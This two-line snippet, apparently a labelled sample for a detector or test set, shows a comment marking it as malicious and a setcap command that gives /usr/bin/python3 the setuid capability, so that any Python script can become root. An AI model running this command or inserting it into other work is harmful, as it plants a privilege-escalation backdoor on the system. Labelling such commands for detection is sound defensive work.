# Malicious: setcap gives python3 the setuid capability; any script can become root.
setcap cap_setuid+ep /usr/bin/python3
